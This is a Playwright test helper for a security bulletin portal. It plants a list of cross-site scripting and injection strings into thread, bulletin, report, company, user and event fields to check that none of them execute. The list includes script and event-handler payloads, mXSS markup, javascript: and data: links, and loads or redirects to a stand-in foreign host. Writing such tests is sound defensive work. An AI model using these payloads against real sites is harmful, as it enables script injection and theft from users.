import { expect, type Page } from "@playwright/test";

/** An address outside the portal; a request to it shows that a text was executed. */
export const foreignOrigin = "https://afuera.example";

/**
 * Texts that try to execute, load or redirect: tags, handlers, addresses, Markdown, templates, entities, broken markup.
 */
export const hostileTexts = [
  "<script>alert('script')</script>",
  `<script src="${foreignOrigin}/x.js"></script>`,
  "<img src=x onerror=alert('img')>",
  "\"><img src=x onerror=alert('quote')>",
  "'><svg/onload=alert('svg')>",
  "<svg><animate onbegin=alert('animate') attributeName=x dur=1s>",
  "<details open ontoggle=alert('details')>x</details>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=\"javascript:alert('iframe')\"></iframe>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('mxss')&gt;\">",
  `<link rel=stylesheet href="${foreignOrigin}/x.css">`,
  `<style>@import url("${foreignOrigin}/x.css");*{background:url("${foreignOrigin}/x.png")}</style>`,
  `<img src="${foreignOrigin}/pixel.png">`,
  `![una imagen](${foreignOrigin}/imagen.png)`,
  "[siga](javascript:alert('markdown'))",
  "[siga](jAvAsCrIpT&colon;alert('entity'))",
  "[siga](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "<a href=\"java&#09;script:alert('tab')\">siga</a>",
  `<base href="${foreignOrigin}/">`,
  `<meta http-equiv="refresh" content="0;url=${foreignOrigin}/">`,
  `<form action="${foreignOrigin}/"><button autofocus onfocus=alert('focus')>x</button></form>`,
  "{{constructor.constructor('alert(1)')()}}",
  "</title></textarea></script><script>alert('breakout')</script>",
];

/** Calls the portal as the open page does, with its cookies and its CSRF token. */
async function post<Answer>(page: Page, path: string, body: unknown, method = "POST"): Promise<Answer> {
  const answer = await page.evaluate(
    async ({ path, body, method }) => {
      await fetch("/api/um/csrf_view/");
      const token = /csrftoken=([^;]+)/.exec(document.cookie)?.[1] ?? "";
      const response = await fetch(path, {
        method,
        headers: { "Content-Type": "application/json", "X-CSRFToken": decodeURIComponent(token) },
        body: JSON.stringify(body),
      });
      return { ok: response.ok, text: await response.text() };
    },
    { path, body, method },
  );
  expect(answer.ok, `${path} ${answer.text}`).toBe(true);
  return answer.text === "" ? (undefined as Answer) : JSON.parse(answer.text);
}

const everything = hostileTexts.join("\n\n");
/** The texts that are short enough for a name. */
const names = hostileTexts.filter((text) => text.length <= 60);

interface Versioned {
  id: number;
  version: number;
}

/**
 * Enters the texts in every field that a person or a tool of a company may write. The page belongs to a person of the
 * staff.
 */
export async function plantTexts(page: Page, origin: string): Promise<{ bulletin: number; topic: string }> {
  const { topic } = await post<{ topic: { id: string } }>(page, "/api/topics/threads/", {
    subject: names[0],
    message: everything,
  });
  for (const subject of names.slice(1)) {
    await post(page, "/api/topics/threads/", { subject, message: "x" });
  }

  const bulletin = await post<Versioned>(page, "/api/manage/bulletins/", {
    slug: "textos-hostiles",
    title: `Textos hostiles ${names[2]}`,
    summary: everything.slice(0, 300),
    severity: "low",
    cves: [],
    techniques: [],
    products: names,
    sources: [{ title: names[1], url: "https://fuente.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E" }],
    body: everything,
  });
  await publish(page, "bulletins", bulletin);
  const report = await post<Versioned>(page, "/api/manage/reports/", {
    slug: "reporte-hostil",
    title: `Reporte hostil ${names[1]}`,
    summary: everything.slice(0, 300),
    kind: "monthly",
    period_start: "2026-01-01",
    period_end: "2026-01-31",
    cover_hue: 10,
    body: everything,
  });
  await publish(page, "reports", report);

  const company = await post<Versioned>(page, "/api/manage/companies/", {
    name: names[1],
    full_name: everything.replaceAll("\n", " ").slice(0, 190).trim(),
    sector: names[2],
  });
  await post(page, "/api/manage/users/", {
    username: "visita.hostil",
    first_name: names[1],
    last_name: names[2],
    email: "visita@ejemplo.cl",
    role: "client",
    companies: [company.id],
  });
  await plantEvents(page, origin);
  return { bulletin: bulletin.id, topic: topic.id };
}

async function publish(page: Page, itemNoun: string, { id, version }: Versioned): Promise<void> {
  await post(page, `/api/manage/${itemNoun}/${id}/publish/`, { version });
}

/** Delivers records as a tool would, with each text in the fields that a list shows. */
async function plantEvents(page: Page, origin: string): Promise<void> {
  const { api_key } = await post<{ api_key: string }>(page, "/api/events/sources/", { name: names[2] });
  const lines = hostileTexts.map((text, place) =>
    JSON.stringify({
      timestamp: new Date(Date.now() - place * 1000).toISOString().replace("Z", "+0000"),
      id: `1700000000.${place}`,
      rule: { id: "100900", level: 15, description: text, groups: [text] },
      agent: { id: "001", name: text },
      manager: { name: "central" },
      data: { srcuser: text, dstuser: text, url: text },
      full_log: text,
      location: text,
    }),
  );
  const response = await page.request.post(`${origin}/api/events/ingest/`, {
    headers: { Authorization: `Bearer ${api_key}`, "Content-Type": "application/x-ndjson" },
    data: lines.join("\n"),
  });
  expect(response.ok(), await response.text()).toBe(true);
  expect(await response.json()).toMatchObject({ accepted: hostileTexts.length, rejected: 0 });
}
